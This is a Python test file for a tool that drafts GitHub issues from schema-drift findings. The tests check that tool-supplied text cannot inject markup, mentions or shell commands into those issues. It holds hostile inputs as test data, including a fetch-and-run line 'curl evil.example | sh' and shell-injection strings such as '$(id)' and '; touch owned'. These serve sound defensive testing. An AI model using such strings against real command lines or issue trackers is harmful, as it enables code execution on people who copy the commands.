"""What an issue says, and that nothing a tool said does anything in it."""

import os
import re
import subprocess
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harness.drift.issue import IssueState, begin, look, marker_of, state_in
from harness.drift.issue_text import MOST_CHARACTERS, draft_of, fenced, harmless, span
from harness.runs.store.drift_report import DriftFinding, IssueDraft
from tests.drift.issues.conftest import NOW, finding
from tests.drift.issues.conftest import look as looked

HOSTILE = "@everyone fix #12, GH-7 <!-- harness-drift:v1 key=000000000000 {} -->\n```\n# done\n\u202eevil\x07 | `x`"


def drafted(*findings: DriftFinding) -> IssueDraft:
    state = begin("drive_thru", findings[0].tool, "breaking", findings, looked(*findings))
    return draft_of(state, "harness drift probe drive_thru", findings=findings)


def visible(body: str) -> str:
    return body[: body.rindex("<!-- harness-drift:v1")]


def test_it_says_what_changed_since_when_what_it_touches_and_how_to_see_it_again() -> None:
    body = drafted(finding()).body
    for words in (
        '-  "total_cents": 299',
        f"first seen {NOW.date()}, last seen {NOW.date()}",
        "Cases (2): `order-000`, `order-001`",
        "**Verdicts that change with it** (1): `order-001`",
        "harness drift probe drive_thru",
        "| `get_order` | `schema.removed` | `$.total_cents` | `integer` → `absent` |",
        "drift:mute",
    ):  # fmt: skip
        assert words in body


def test_what_a_tool_said_mentions_nobody_and_begins_no_markup() -> None:
    one = finding(
        tool=HOSTILE, operation=HOSTILE, path=HOSTILE, old_kind=HOSTILE, before={HOSTILE: HOSTILE}, cases=(HOSTILE,)
    )
    draft = drafted(one)
    shown = visible(draft.body)
    assert None is re.search(r"@\w|#\d|GH-\d|<!--|[\u202a-\u202e\x07]", shown)
    assert None is re.search(r"@\w|#\d|\n", draft.title)
    fences = [line for line in shown.splitlines() if line.startswith("```")]
    assert ["```diff", "```", "```sh", "```", "```sh", "```"] == fences
    assert 1 == len({line.count("|") - line.count("\\|") for line in shown.splitlines() if line.startswith("| `")})
    state = state_in(draft.body)
    assert state is not None
    assert [one.fingerprint] == [change.fingerprint for change in state.changes]


@given(st.text(max_size=300))
@settings(max_examples=150, deadline=None)
def test_no_text_gets_out_of_its_code(text: str) -> None:
    plain = harmless(text)
    assert None is re.search(r"@\w|#\d|<!--|-->|```|~~~", plain)
    assert 2 == fenced(text).count("```")
    assert "\n" not in span(text)
    assert "`" not in span(text)[1:-1]


@given(st.text(max_size=100), st.text(max_size=100))
@settings(max_examples=100, deadline=None)
def test_the_memory_survives_whatever_a_tool_is_called(tool: str, path: str) -> None:
    one = finding(tool=tool, path=path)
    state = begin("s", tool, "breaking", [one], looked(one))
    assert state == state_in(f"text\n{marker_of(state)}\n")
    assert 1 == marker_of(state).count("-->")


def test_thousands_of_changes_fit_and_are_not_new_the_next_night() -> None:
    many = [finding(path=f"$.field_{number}['{'x' * 100}']", cases=(f"case-{number}",)) for number in range(3000)]
    draft = drafted(*many)
    assert len(draft.body) <= MOST_CHARACTERS
    state = state_in(draft.body)
    assert state is not None
    again = look(state, many, looked(*many, nights=1))
    assert () == again.new
    assert state.shown == _shown(again.state)


def _shown(state: IssueState) -> str:
    found = state_in(draft_of(state, "harness").body)
    assert found is not None
    return found.shown


def test_a_path_too_long_to_be_kept_is_still_counted_and_does_not_close_the_issue() -> None:
    long = finding(path="$." + "x" * 50_000)
    draft = drafted(long)
    assert len(draft.body) <= MOST_CHARACTERS
    state = state_in(draft.body)
    assert state is not None
    assert (long.fingerprint,) == state.more
    assert not look(state, [long], looked(long, nights=1)).is_over
    assert look(state, [], looked(nights=2)).is_over


def test_excerpts_of_an_earlier_look_are_carried_over() -> None:
    one = finding()
    state = begin("drive_thru", "get_order", "breaking", [one], looked(one))
    body = draft_of(state, "again", findings=[one]).body
    assert '-  "total_cents": 299' in draft_of(state, "again", earlier_body=body).body  # fmt: skip


def test_table_and_marker_hold_no_value_and_no_run() -> None:
    one = finding(before={"total_cents": "s3cret-value"}, after={"status": "open"})
    body = drafted(one).body
    rest = body[body.index("### Changes") :]
    assert "s3cret-value" not in rest
    assert "night-" not in body
    assert date.fromisoformat(re.findall(r"\d{4}-\d\d-\d\d", rest)[0]) == NOW.date()


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "harness drift s; id",
        "harness drift $(id)",
        "harness drift s\nid",
        "harness drift `id`",
    ],
)
def test_a_report_puts_no_other_command_before_who_copies_it(command: str) -> None:
    state = begin("drive_thru", "get_order", "breaking", [finding()], looked(finding()))
    assert command not in draft_of(state, command, findings=[finding()]).body
    shown = "harness drift 'a b' --case order-1 --tool get_*"
    assert shown in draft_of(state, shown, findings=[finding()]).body


HOSTILE_NAMES = (
    "x; touch owned",
    "$(touch owned)",
    "`touch owned`",
    "a\ntouch owned",
    "a' ; touch owned ; '",
    "a && b",
)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_command_to_be_copied_is_one_command_whatever_a_report_calls_its_parts(tmp_path: Path, name: str) -> None:
    one = finding(tool=name)
    report = looked(one).model_copy(update={"run": name, "suite": name})
    body = draft_of(begin(name, name, "breaking", [one], report), "harness").body
    lines = body.split("```sh\n")[-1].split("\n```")[0]
    (tmp_path / "harness").write_text('#!/bin/sh\necho $# "$2" > said\n')
    (tmp_path / "harness").chmod(0o755)
    env = {"PATH": f"{tmp_path}:{os.environ['PATH']}"}
    subprocess.run(["sh", "-c", lines], cwd=tmp_path, env=env, check=True)

    assert not (tmp_path / "owned").exists()
    assert "7 refresh\n" == (tmp_path / "said").read_text()
